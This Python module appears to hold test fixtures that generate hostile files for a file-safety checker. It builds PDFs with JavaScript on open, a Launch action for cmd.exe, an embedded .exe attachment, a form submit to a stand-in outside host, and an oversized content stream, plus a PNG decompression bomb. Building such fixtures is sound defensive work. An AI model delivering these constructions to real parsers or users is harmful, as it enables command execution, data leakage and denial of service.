"""Files as people, telephones and attackers make them, built here and nowhere stored."""

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image


def pdf(pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **saved: object) -> bytes:
    """A small PDF, perhaps with something in it that should not be."""
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(200, 200))
        if change is not None:
            change(made)
        out = io.BytesIO()
        made.save(out, **saved)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40)) -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A few kilobytes that unpack to a picture of billions of pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(9_999)))
        + chunk(b"IEND", b"")
    )


def with_javascript(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def with_embedded_file(made: pikepdf.Pdf) -> None:
    made.attachments["x.exe"] = b"MZ"


def with_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=made.make_stream(b"<xdp/>"))


def with_submit(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://elsewhere.example")
    )


def with_bomb(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"0" * (260 * 1024 * 1024))
